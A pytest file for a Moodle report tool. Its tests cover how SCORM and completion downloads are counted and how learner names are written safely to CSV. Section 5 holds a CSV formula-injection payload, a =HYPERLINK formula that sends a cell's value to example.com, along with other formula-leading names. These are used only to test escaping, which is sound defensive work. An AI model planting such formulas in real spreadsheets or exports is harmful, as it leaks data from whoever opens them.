"""Issue 17: the report on what HR really downloads from Moodle 4.5, one test per finding.

Each test here failed before the fix (the finding is quoted); the Moodle source file that shows the
behaviour is named in each docstring.
"""
from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from course_builder.cli import main
from course_builder.content import load_course
from course_builder.report.pipeline import analyse_exports
from course_builder.report.writer import as_text, csv_tables, report_files
from course_builder.report.writer import page_notes
from tests.report import scenario
from tests.report.moodle_exports import (
    CompletionLearner, ScormLearner, activity_completion_rows, course_completion_rows, write_activity_completion,
    write_course_completion, write_scorm_report,
)
from tests.support import tree_bytes

TEACHER = ScormLearner("Tina Teacher", "tina@example.dk", [])


@pytest.fixture(scope="module")
def course():
    return load_course(scenario.COURSE).course


def analyse(course, paths, **options):
    analysis, problems = analyse_exports(paths, course, **options)
    assert analysis is not None, [str(p) for p in problems if p.is_error]
    return analysis, problems


def module(analysis, module_id):
    return next(m for m in analysis.modules if m.module_id == module_id)


# --- 1. Moodle's default Basic report (no per-SCO column) --------------------------------------------

@pytest.mark.parametrize("suffix", [".txt", ".xlsx", ".ods"])
def test_the_default_basic_report_is_read_in_every_form(course, tmp_path, suffix):
    """Finding 1: "Moodle's default Basic report download is refused, and the whole run stops." With
    "Track details" at No (mod/scorm/reportsettings_form.php, detailedrep), the default, the Basic report
    has no per-SCO column (mod/scorm/report/basic/classes/report.php adds `scograde<id>` columns only
    when $detailedrep); its "Score" column is the attempt's
    grade by scorm_grade_user_attempt() (mod/scorm/locallib.php), 0 without any score."""
    path = write_scorm_report(tmp_path / f"KURSUS Fundamentet{suffix}", "basic", scenario.FUNDAMENTET,
                              scenario.fundamentet_learners(), detailed=False)
    analysis, problems = analyse(course, [path])
    row = module(analysis, "fundamentet")
    # Anna 100, Bo best 90, Eva 80, Frank 40; Cai's "Score" 0 is no score; Dorte has no attempt.
    assert (row.started, row.scored, row.passed, row.median_score) == (5, 4, 3, 85.0)
    assert any("Basic-rapporten uden kolonnen pr. SCO" in note for note in page_notes(analysis, scenario.COURSE))
    assert not [p for p in problems if p.is_error]


def test_basic_and_interactions_saved_under_one_name_are_both_read(course, tmp_path):
    """Finding 1: "Moodle also names the Basic and Interactions spreadsheets alike, so the browser saves
    the second as '… (1).xlsx'" (both use clean_filename("$shortname $scorm->name")). The "(1)" copy of
    one report is counted once; the Basic report and the Interactions report are both placed."""
    basic = write_scorm_report(tmp_path / "KURSUS Fundamentet.xlsx", "basic", scenario.FUNDAMENTET,
                               scenario.fundamentet_learners(), detailed=False)
    interactions = write_scorm_report(tmp_path / "KURSUS Fundamentet (1).xlsx", "interactions", "SCO 1",
                                      scenario.fundamentet_learners(), columns=("response",))
    again = tmp_path / "KURSUS Fundamentet (2).xlsx"
    shutil.copy(interactions, again)
    analysis, problems = analyse(course, [basic, interactions, again])
    assert [m.module_id for m in analysis.modules] == ["fundamentet"]
    assert module(analysis, "fundamentet").scored == 4
    duplicates = [p for p in problems if "same data" in p.message]
    assert [p.path.name for p in duplicates] == ["KURSUS Fundamentet (2).xlsx"]


# --- 2. only learners are counted ------------------------------------------------------------------

def _scorm_with_teacher(folder: Path) -> Path:
    """mod/scorm/report/interactions/classes/report.php lists everyone enrolled who may save tracks
    (get_enrolled_sql(..., 'mod/scorm:savetrack')): the editing teacher too, with '-' in every column."""
    return write_scorm_report(folder / "KURSUS Fundamentet.txt", "interactions", scenario.FUNDAMENTET,
                              scenario.fundamentet_learners() + [TEACHER])


def test_completion_downloads_define_the_learners(course, tmp_path):
    """Finding 2: "The teacher is counted as a learner ... 11 participants ... 45 % completed; the truth
    is 10 learners and 50 %." report/progress/index.php lists only tracked learners."""
    scorm = _scorm_with_teacher(tmp_path)
    activity = tmp_path / "completion.csv"
    write_activity_completion(activity, activity_completion_rows(scenario.ACTIVITIES, scenario.completion_learners()),
                              excel=False)
    analysis, _ = analyse(course, [scorm, activity])
    assert len(analysis.learners) == 6
    assert "Tina Teacher" not in [l.name for l in analysis.learners_in("not_started")]
    assert analysis.not_counted == ["Tina Teacher"]
    assert (module(analysis, "fundamentet").learners, module(analysis, "fundamentet").completion_percent) == (6, 50)
    assert "Tina" not in "".join(str(row) for row in csv_tables(analysis)["ikke-startet.csv"])


def test_without_completion_downloads_the_report_says_how_and_hr_names_who_is_not_a_learner(course, tmp_path):
    scorm = _scorm_with_teacher(tmp_path)
    counted, _ = analyse(course, [scorm])
    assert len(counted.learners) == 7
    assert any("ingen gennemførelsesrapport" in note and "--not-learner" in note for note in page_notes(counted, scenario.COURSE))
    page = report_files(counted, course)["index.html"].decode("utf-8")
    assert "listen kan også rumme undervisere" in page.split("Ikke startet (")[1].split("Startet, men")[0]
    named, _ = analyse(course, [scorm], not_learners=["TINA@example.dk"])
    assert len(named.learners) == 6 and named.not_counted == ["Tina Teacher"]
    assert [l.name for l in named.learners_in("not_started")] == ["Dorte Dam"]


# --- 3. a download of another course ---------------------------------------------------------------

def test_a_completion_download_of_another_course_is_refused_and_the_report_kept(tmp_path, capsys):
    """Finding 3: "A course-completion download from a different course: exit 0 ... The previous good
    report in the same folder was replaced." (report/completion/index.php: its activity columns)."""
    downloads = tmp_path / "downloads"
    scenario.write_downloads(downloads)
    out = tmp_path / "rapport"
    assert main(["report", str(downloads), "--source", str(scenario.COURSE), "--out", str(out)]) == 0
    before = tree_bytes(out)
    other = [CompletionLearner("Ole Olsen", "ole@example.dk", {"Brandsikkerhed": ("y", scenario.at(5, 1, 9))},
                               course_completed=scenario.at(5, 1, 10), user_id=40)]
    write_course_completion(downloads / "andet-kursus.csv", course_completion_rows(["Brandsikkerhed"], other),
                            excel=False)
    capsys.readouterr()
    assert main(["report", str(downloads), "--source", str(scenario.COURSE), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "andet-kursus.csv" in err and "er fra et andet kursus" in err and "'Brandsikkerhed'" in err
    assert tree_bytes(out) == before


# --- 5. formulas in Moodle data ---------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://example.com/?x="&A1;"klik")'


def _report_with_names(course, tmp_path, *names: str) -> dict[str, bytes]:
    learners = [ScormLearner(name, f"l{n}@example.dk", []) for n, name in enumerate(names)]
    path = write_scorm_report(tmp_path / "KURSUS Fundamentet.txt", "basic", scenario.FUNDAMENTET, learners)
    analysis, _ = analyse(course, [path])
    return report_files(analysis, course)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_cells_from_moodle_are_written_as_text(course, tmp_path):
    """Finding 5: "a learner whose name in Moodle is =HYPERLINK(...) appears in deltagere.csv as a cell
    starting with =". Read back with csv: every such cell starts with an apostrophe."""
    names = [FORMULA_NAME, "+45 Plus", "-Minus", "@Snabel", "Almindelig"]
    files = _report_with_names(course, tmp_path, *names)
    cells = {row[0] for row in _csv_cells(files["deltagere.csv"])[1:]}
    assert "'" + FORMULA_NAME in cells and "'+45 Plus" in cells and "'-Minus" in cells and "'@Snabel" in cells
    assert "Almindelig" in cells
    assert (as_text("\tTab"), as_text("\rReturn"), as_text("a=b")) == ("'\tTab", "'\rReturn", "a=b")
    risky = [cell for name in files if name.endswith(".csv") for row in _csv_cells(files[name]) for cell in row
             if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _libreoffice_cells(csv_file: Path, folder: Path) -> list[tuple[str, bool]]:
    """LibreOffice opens the CSV (semicolons, UTF-8) and saves it as .xlsx: (text, is a formula) per cell."""
    subprocess.run([SOFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile",
                    "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir", str(folder), str(csv_file)],
                   check=True, capture_output=True, timeout=180)
    sheet = zipfile.ZipFile(folder / (csv_file.stem + ".xlsx")).read("xl/worksheets/sheet1.xml").decode("utf-8")
    from lxml import etree
    ns = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    root = etree.fromstring(sheet.encode("utf-8"))
    return [(cell.get("r"), cell.find("s:f", ns) is not None) for cell in root.iterfind(".//s:c", ns)]


def test_libreoffice_opens_the_csv_without_running_a_formula(course, tmp_path):
    files = _report_with_names(course, tmp_path, FORMULA_NAME)
    written = tmp_path / "deltagere.csv"
    written.write_bytes(files["deltagere.csv"])
    assert not any(is_formula for _, is_formula in _libreoffice_cells(written, tmp_path))
    # The same file without the apostrophe: LibreOffice does make a formula of it (the test can fail).
    raw = tmp_path / "uden.csv"
    raw.write_bytes(files["deltagere.csv"].replace(b"'=HYPERLINK", b"=HYPERLINK"))
    assert any(is_formula for _, is_formula in _libreoffice_cells(raw, tmp_path))


# --- 6. modules without downloads, progress ---------------------------------------------------------

def test_a_learner_done_with_every_module_that_has_data_is_not_called_unfinished(course, tmp_path):
    """Finding 6: 'a learner who completed every module that had downloads ("4 af 4" while the course has
    9) is listed under "Startet, men ikke færdige"'."""
    path = write_scorm_report(tmp_path / "KURSUS Fundamentet.txt", "interactions", scenario.FUNDAMENTET,
                              scenario.fundamentet_learners())
    analysis, _ = analyse(course, [path])
    assert analysis.modules_without_data == [scenario.ROLLER]
    anna = next(l for l in analysis.learners if l.name == "Anna Andersen")
    assert anna.state == "completed_known"
    follow_up = csv_tables(analysis)["ikke-gennemfoert.csv"]
    row = next(r for r in follow_up if r[0] == "Anna Andersen")
    assert row[2] == "1 af 1 med data (kurset har 2)" and row[-1] == scenario.ROLLER
    page = report_files(analysis, course)["index.html"].decode("utf-8")
    assert "Ingen downloads for 1 af kursets 2 moduler:</strong> Roller og krydspres" in page
    unfinished = page.split("Startet, men ikke færdige")[1].split("Færdige med alle moduler")[0]
    assert "Anna Andersen" not in unfinished


def test_a_long_run_shows_progress(course, tmp_path, monkeypatch):
    """Finding 6: 'a 200 MB download takes about 50 s with no sign of progress'."""
    from course_builder.report import pipeline

    path = write_scorm_report(tmp_path / "KURSUS Fundamentet.txt", "interactions", scenario.FUNDAMENTET,
                              scenario.fundamentet_learners() * 3)
    monkeypatch.setattr(pipeline, "PROGRESS_EVERY", 5)
    monkeypatch.setattr(pipeline, "LARGE_FILE", 0)
    stream = io.StringIO()
    analyse(course, [path], progress=stream)
    assert "reading KURSUS Fundamentet.txt: 5 rows so far" in stream.getvalue()
    monkeypatch.setattr(pipeline, "LARGE_FILE", 1 << 40)
    quiet = io.StringIO()  # not a terminal, and a small file: nothing
    analyse(course, [path], progress=quiet)
    assert quiet.getvalue() == ""
